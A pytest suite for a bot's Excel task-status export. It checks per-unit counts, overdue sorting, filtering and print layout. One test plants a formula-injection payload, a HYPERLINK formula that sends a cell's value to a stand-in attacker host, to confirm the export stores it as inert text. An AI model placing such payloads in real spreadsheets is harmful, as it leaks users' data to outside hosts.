"""The Excel status report, opened with openpyxl and checked against the database."""

from __future__ import annotations

import datetime as dt
import io
from collections import Counter, defaultdict

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook
from sqlalchemy import select
from sqlalchemy.orm import selectinload

from bot.context import AppContext
from bot.demo import load_demo
from bot.exporting import (
    OVERDUE_SHEET,
    SUMMARY_SHEET,
    TASK_HEADERS,
    TASKS_SHEET,
    build_status_workbook,
)
from bot.models import Report, Task, Unit
from bot.services.people import person_label
from bot.status import STATUS_ORDER, Status, classify
from bot.texts import TEXTS
from tests.bot.builders import add_official, add_task, add_unit

HEADER_ROW = 8
"""The table header, below the heading block (issuing body, Quốc hiệu, date, title)."""


async def export(ctx: AppContext, unit_id: int | None = None) -> Workbook:
    async with ctx.db.session() as session:
        data = await build_status_workbook(session, ctx, unit_id)
    return load_workbook(io.BytesIO(data))


async def all_tasks(ctx: AppContext) -> list[Task]:
    async with ctx.db.session() as session:
        return list(
            await session.scalars(
                select(Task)
                .options(
                    selectinload(Task.lead_unit),
                    selectinload(Task.handler),
                    selectinload(Task.leader_in_charge),
                )
                .order_by(Task.code)
            )
        )


def status(ctx: AppContext, task: Task) -> Status:
    return classify(
        deadline=task.deadline,
        completed_on=task.completed_on,
        last_report_on=None,
        created_on=ctx.local_date(task.created_at),
        today=ctx.today(),
        calendar=ctx.calendar,
    ).status


def as_date(value: object) -> dt.date | None:
    return value.date() if isinstance(value, dt.datetime) else None


@pytest.fixture
async def demo(ctx: AppContext) -> AppContext:
    await load_demo(ctx)
    return ctx


async def test_summary_sheet_counts_each_unit_in_the_four_categories(demo: AppContext) -> None:
    ctx = demo
    sheet = (await export(ctx))[SUMMARY_SHEET]
    tasks = await all_tasks(ctx)
    expected: dict[str, Counter[Status]] = defaultdict(Counter)
    for task in tasks:
        expected[task.lead_unit.code][status(ctx, task)] += 1

    header = [cell.value for cell in sheet[HEADER_ROW]]
    assert header[3:8] == [
        "Tổng số nhiệm vụ",
        "Hoàn thành đúng hạn",
        "Hoàn thành quá hạn",
        "Đang thực hiện trong hạn",
        "Quá hạn",
    ]
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    rows = [row for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True) if row[1]]
    found = {row[1]: row for row in rows}
    assert set(found) == set(expected)
    for code, counts in expected.items():
        row = found[code]
        assert row[3] == sum(counts.values())
        assert list(row[4:8]) == [counts[s] for s in STATUS_ORDER], code
    overdue_first = [row[7] for row in rows]
    assert overdue_first == sorted(overdue_first, reverse=True)

    total_row = next(row for row in sheet.iter_rows(values_only=True) if row[2] == "Tổng cộng")
    totals: Counter[Status] = Counter(status(ctx, task) for task in tasks)
    with_deadline = sum(1 for task in tasks if task.deadline is not None)
    assert total_row[3] == len(tasks)
    assert list(total_row[4:8]) == [totals[s] for s in STATUS_ORDER]
    assert total_row[8] == with_deadline
    done_without = sum(1 for t in tasks if t.deadline is None and t.completed_on is not None)
    assert total_row[9] == done_without
    done = totals[Status.DONE_ON_TIME] + totals[Status.DONE_LATE]
    assert total_row[10] == round(100 * done / len(tasks), 2)
    assert total_row[11] == round(100 * (done - done_without) / with_deadline, 2)
    assert total_row[12] == round(100 * totals[Status.OVERDUE] / len(tasks), 2)
    assert total_row[13] == round(100 * totals[Status.OVERDUE] / with_deadline, 2)


async def test_overdue_sheet_lists_overdue_tasks_most_late_first(demo: AppContext) -> None:
    ctx = demo
    sheet = (await export(ctx))[OVERDUE_SHEET]
    today = ctx.today()
    overdue = [t for t in await all_tasks(ctx) if status(ctx, t) is Status.OVERDUE]
    assert overdue

    rows = list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    assert sorted(row[1] for row in rows) == sorted(t.code for t in overdue)
    by_code = {t.code: t for t in overdue}
    for row in rows:
        task = by_code[row[1]]
        assert task.deadline is not None
        assert as_date(row[4]) == task.deadline
        assert row[5] == (today - task.deadline).days
        assert row[6] == ctx.calendar.working_days_between(task.deadline, today)
        assert row[7] == task.progress
    late = [row[5] for row in rows]
    assert late == sorted(late, reverse=True)
    assert sheet.cell(row=HEADER_ROW + 1, column=5).number_format == "DD/MM/YYYY"
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"


async def test_task_sheet_shows_every_task_with_its_latest_report(demo: AppContext) -> None:
    ctx = demo
    sheet = (await export(ctx))[TASKS_SHEET]
    assert [cell.value for cell in sheet[HEADER_ROW]] == [title for title, _ in TASK_HEADERS]
    async with ctx.db.session() as session:
        reports = list(await session.scalars(select(Report).options(selectinload(Report.official))))
    latest: dict[int, Report] = {}
    for report in reports:
        if report.task_id not in latest or report.created_at > latest[report.task_id].created_at:
            latest[report.task_id] = report

    tasks = await all_tasks(ctx)
    rows = {row[0]: row for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)}
    assert set(rows) == {t.code for t in tasks}
    for task in tasks:
        row = rows[task.code]
        assert row[1] == task.title
        assert row[4] == (person_label(task.leader_in_charge) if task.leader_in_charge else None)
        assert row[5] == task.lead_unit.name
        assert row[6] == (person_label(task.handler) if task.handler else None)
        assert as_date(row[8]) == task.deadline
        assert row[9] == TEXTS.t(f"status.{status(ctx, task).value}")
        assert row[10] == task.progress
        assert as_date(row[11]) == task.completed_on
        newest = latest.get(task.id)
        if newest is None:
            assert row[12:] == (None, None, None, None)
            continue
        report = newest
        assert report.official is not None
        assert (row[12], row[13], row[14]) == (
            report.progress,
            report.note,
            report.official.full_name,
        )
        local = report.created_at.astimezone(ctx.tz).replace(tzinfo=None)
        assert row[15] == local.replace(microsecond=0)
    assert any(row[6] for row in rows.values())  # the demo names handlers
    assert any(row[4] for row in rows.values())  # and leaders in charge


async def test_export_of_one_unit_contains_only_its_tasks(demo: AppContext) -> None:
    ctx = demo
    async with ctx.db.session() as session:
        unit = await session.scalar(select(Unit).where(Unit.code == "SO-TC"))
        assert unit is not None
    workbook = await export(ctx, unit.id)
    own = [t.code for t in await all_tasks(ctx) if t.lead_unit.code == "SO-TC"]
    summary_codes = [
        row[1]
        for row in workbook[SUMMARY_SHEET].iter_rows(min_row=HEADER_ROW + 1, values_only=True)
        if row[1]
    ]
    assert summary_codes == ["SO-TC"]
    listed = [
        row[0] for row in workbook[TASKS_SHEET].iter_rows(min_row=HEADER_ROW + 1, values_only=True)
    ]
    assert listed == sorted(own)


async def test_empty_database_gives_a_report_with_zero_totals(ctx: AppContext) -> None:
    workbook = await export(ctx)
    assert workbook.sheetnames == [SUMMARY_SHEET, OVERDUE_SHEET, TASKS_SHEET]
    total_row = next(
        row for row in workbook[SUMMARY_SHEET].iter_rows(values_only=True) if row[2] == "Tổng cộng"
    )
    assert total_row[3:9] == (0, 0, 0, 0, 0, 0)
    assert total_row[9:] == (0, None, None, None, None)
    assert workbook[OVERDUE_SHEET].max_row == HEADER_ROW  # the header only


async def test_every_sheet_is_a_document_an_office_can_print(demo: AppContext) -> None:
    ctx = demo
    workbook = await export(ctx)
    for sheet in workbook.worksheets:
        values = [c.value for row in sheet.iter_rows(max_row=HEADER_ROW - 1) for c in row]
        for line in (
            "ỦY BAN NHÂN DÂN",
            "THÀNH PHỐ HẢI PHÒNG",
            "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
            "Độc lập - Tự do - Hạnh phúc",
            "BÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ",
            sheet.title.upper(),
        ):
            assert line in values, (sheet.title, line)
        assert any(str(v).startswith("Hải Phòng, ngày ") for v in values if v)
        assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
        assert sheet.auto_filter.ref is not None
        assert sheet.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
        assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
        widest = max(
            range(1, sheet.max_column + 1),
            key=lambda c: sheet.column_dimensions[get_column_letter(c)].width or 0,
        )
        assert sheet.column_dimensions[get_column_letter(widest)].width >= 30
        assert sheet.cell(row=HEADER_ROW + 1, column=widest).alignment.wrap_text
    summary = workbook[SUMMARY_SHEET]
    filtered = summary.auto_filter.ref
    assert filtered is not None
    last = int(filtered.split(":")[1].lstrip("ABCDEFGHIJKLMN"))
    assert summary.cell(row=last, column=3).value == "Tổng cộng"


async def test_coordinating_units_are_named_not_coded(ctx: AppContext) -> None:
    async with ctx.db.session() as session:
        lead = await add_unit(session, ctx, "SO-TC", "Sở Tài chính")
        helper = await add_unit(session, ctx, "SO-XD", "Sở Xây dựng")
        await add_task(session, ctx, "NV-01", lead, coordinating=[helper])
    sheet = (await export(ctx))[TASKS_SHEET]
    row = next(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    assert row[7] == "Sở Xây dựng"


async def test_text_that_looks_like_a_formula_is_written_as_text(ctx: AppContext) -> None:
    hostile_title = '=HYPERLINK("http://attacker.example/?"&A2,"Bấm vào đây")'
    async with ctx.db.session() as session:
        unit = await add_unit(session, ctx, "SO-TC")
        official = await add_official(session, ctx, "CB-01", unit, name="@Nguyễn Văn A")
        task = await add_task(session, ctx, "NV-01", unit)
        task.title = hostile_title
        task.source_document = "+84 912 345 678"
        session.add(
            Report(
                task=task,
                official=official,
                progress=10,
                note="-1+2 đã gửi dự thảo",
                channel="telegram",
                created_at=ctx.now(),
            )
        )

    sheet = (await export(ctx))[TASKS_SHEET]
    row = {
        header: cell for (header, _), cell in zip(TASK_HEADERS, sheet[HEADER_ROW + 1], strict=True)
    }
    expected = {
        "Tên nhiệm vụ": hostile_title,
        "Văn bản giao": "+84 912 345 678",
        "Nội dung báo cáo gần nhất": "-1+2 đã gửi dự thảo",
        "Người báo cáo": "@Nguyễn Văn A",
    }
    for header, text in expected.items():
        assert row[header].value == text
        assert row[header].data_type == "s", header


async def test_a_stored_control_character_does_not_break_the_export(ctx: AppContext) -> None:
    async with ctx.db.session() as session:
        unit = await add_unit(session, ctx, "SO-TC")
        official = await add_official(session, ctx, "CB-01", unit)
        task = await add_task(session, ctx, "NV-01", unit)
        task.title = "Dự thảo\x0b nghị quyết\x1f"
        session.add(
            Report(
                task=task,
                official=official,
                progress=10,
                note="Đã\x01 gửi\r\nSở\tTư pháp",
                channel="telegram",
                created_at=ctx.now(),
            )
        )

    sheet = (await export(ctx))[TASKS_SHEET]
    row = {
        header: cell.value
        for (header, _), cell in zip(TASK_HEADERS, sheet[HEADER_ROW + 1], strict=True)
    }
    assert row["Tên nhiệm vụ"] == "Dự thảo nghị quyết"
    assert row["Nội dung báo cáo gần nhất"] == "Đã gửi\nSở\tTư pháp"
